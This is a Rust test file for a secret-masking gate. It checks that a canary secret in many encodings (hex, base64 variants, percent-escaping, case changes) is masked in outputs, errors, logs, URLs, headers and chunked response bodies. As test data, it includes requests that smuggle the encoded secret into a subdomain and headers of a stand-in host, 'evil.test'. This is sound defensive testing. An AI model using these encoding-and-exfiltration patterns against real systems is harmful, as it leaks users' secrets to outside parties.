//! Secrets that come back in another dress: a node or a host writes what it knows into each place that outlives the
//! call, in capitals and small letters, encoded, and in pieces.

use std::sync::Arc;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE};
use cleargate_flow::error::ErrorCode;
use cleargate_flow::{NodeError, Value};
use cleargate_gate::*;

use crate::bench::{Bench, serve};

const SECRET: &str = "Canary-S3cret_Value.9";

fn bench(grants: &str) -> Bench {
    let secrets = [("k".to_owned(), SecretEntry::new(SECRET, vec![]).unwrap())];
    let secrets: MemorySecrets = secrets.into_iter().collect();
    Bench::with(grants, &["127.0.0.0/8"], Arc::new(SystemResolver), secrets)
}

/// The secret as it can be read, and the text that hides it.
fn dresses() -> Vec<(&'static str, String)> {
    let basic = format!("user:{SECRET}");
    let escaped: String = SECRET.bytes().map(|byte| format!("%{byte:02x}")).collect();
    vec![
        ("as it is", SECRET.into()),
        ("capitals", SECRET.to_uppercase()),
        ("small letters", SECRET.to_lowercase()),
        ("hex", hex::encode(SECRET)),
        ("hex in capitals", hex::encode_upper(SECRET)),
        ("base64", STANDARD.encode(SECRET)),
        ("base64 without padding", STANDARD_NO_PAD.encode(SECRET)),
        ("base64 for URLs", URL_SAFE.encode(SECRET)),
        ("inside of basic authentication", STANDARD.encode(basic)),
        ("base64 one byte on", STANDARD.encode(format!("x{SECRET}y"))),
        ("base64 two bytes on", STANDARD.encode(format!("xy{SECRET}z"))),
        ("each byte escaped", escaped),
    ]
}

/// Whether the secret can be had from the text by undoing what `dresses` does.
fn tells(text: &str) -> bool {
    let lower = text.to_lowercase();
    let own = SECRET.to_lowercase();
    let unescaped = lower.replace('%', "");
    // All but the ends, whose bits mix with the neighbours'.
    let coded = (0..3).map(|phase| STANDARD_NO_PAD.encode(format!("{}{SECRET}", &"xyz"[..phase])));
    lower.contains(&own)
        || unescaped.contains(&hex::encode(SECRET))
        || coded.into_iter().any(|coded| text.contains(&coded[4..coded.len() - 4]))
}

#[test]
fn what_looks_for_a_secret_finds_it() {
    for (dress, text) in dresses() {
        assert!(tells(&format!("<{text}>")), "{dress}: {text}");
    }
    assert!(!tells("***") && !tells("Canary"));
}

#[tokio::test]
async fn a_secret_in_any_dress_is_in_no_output_error_log_url_or_header() {
    let bench = bench(r#"{"reveal":["k"],"kv":["notes"],"http":["http://127.0.0.1:1"]}"#);
    let pass = bench.pass();
    for (dress, text) in dresses() {
        let value = Value::record([
            ("text", Value::from(format!("before {text} after"))),
            (text.as_str(), Value::list([Value::from(text.as_str())])),
        ]);
        assert!(!tells(&pass.scrub(&value).to_json()), "{dress} in an output");
        // A line of the log is a value of the journal, and is masked as one.
        let error = NodeError::new(ErrorCode::Permanent, format!("no {text}"))
            .with_detail(value)
            .with_help(format!("try {text}"));
        assert!(!tells(&format!("{:?}", pass.scrub_error(error))), "{dress} in an error");
        // In what is asked for: a name of a store, a key, the path and the query of a URL, a header.
        let kv = KvOp::Get { key: text.clone() };
        let mut asked = vec![
            Request::Kv { store: "notes".into(), op: kv },
            Request::Kv { store: text.clone(), op: KvOp::Get { key: "k".into() } },
            Request::Http(HttpRequest::get(format!("http://127.0.0.1:1/{text}?q={text}"))),
            Request::Http(HttpRequest::get(format!("http://{}.evil.test/", text.replace('%', "")))),
        ];
        let mut header = HttpRequest::get("http://evil.test/");
        header.headers = vec![(format!("x-{}", text.replace(['%', '=', '/'], "")), text.clone())];
        asked.push(Request::Http(header));
        for request in asked {
            let told = format!("{:?}", pass.perform(request).await);
            assert!(!tells(&told), "{dress} in {told}");
        }
    }
    assert!(!tells(&bench.traces()), "in what outlives the call");
}

#[tokio::test]
async fn a_host_that_echoes_a_secret_in_any_dress_gives_nothing_back() {
    for (dress, text) in dresses() {
        let name = text.replace(['=', '/', '+', '%'], "");
        let body = text.clone();
        let answer = move |_: &str| {
            let fields = format!("x-echo: {body}\r\nx-{name}: 1\r\nset-cookie: k={body}");
            let length = body.len() + 2;
            format!("HTTP/1.1 200 OK\r\n{fields}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n<{body}>")
                .into_bytes()
        };
        let server = serve(answer, None).await;
        let host = format!("http://127.0.0.1:{}", server.port);
        let bench = bench(&format!(r#"{{"http":["{host}"]}}"#));
        let Ok(Response::Http(got)) =
            bench.pass().perform(Request::Http(HttpRequest::get(&host))).await
        else {
            panic!("{dress}: no answer")
        };
        for (name, value) in &got.headers {
            assert!(!tells(&format!("{name}: {value}")), "{dress}: {name}: {value}");
        }
        assert!(!tells(&String::from_utf8_lossy(&got.body.0)), "{dress} in a body");
        // Piece by piece, however small: a secret that is split is still one.
        for size in [1, 5, 64] {
            let opened = bench.fresh("acme", "p").open(HttpRequest::get(&host)).await.unwrap();
            let mut all = Vec::new();
            while let Some(piece) = opened.body.next(size).await.unwrap() {
                all.extend(piece);
            }
            assert!(!tells(&String::from_utf8_lossy(&all)), "{dress} in pieces of {size}");
        }
        assert!(!tells(&bench.traces()), "{dress} in what outlives the call");
    }
}

#[tokio::test]
async fn a_secret_that_a_host_splits_between_packets_is_masked() {
    for cut in 1..SECRET.len() {
        let (front, back) = SECRET.split_at(cut);
        let head = format!(
            "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n{:x}\r\n{front}\r\n",
            front.len()
        );
        let rest = format!("{:x}\r\n{back}\r\n0\r\n\r\n", back.len());
        let pause = std::time::Duration::from_millis(1);
        let server =
            serve(move |_| head.clone().into_bytes(), Some((rest.into_bytes(), pause))).await;
        let host = format!("http://127.0.0.1:{}", server.port);
        let bench = bench(&format!(r#"{{"http":["{host}"]}}"#));
        let opened = bench.pass().open(HttpRequest::get(&host)).await.unwrap();
        let mut all = Vec::new();
        while let Some(piece) = opened.body.next(1000).await.unwrap() {
            all.extend(piece);
        }
        assert_eq!(String::from_utf8_lossy(&all), "***", "cut behind {cut} bytes");
    }
}
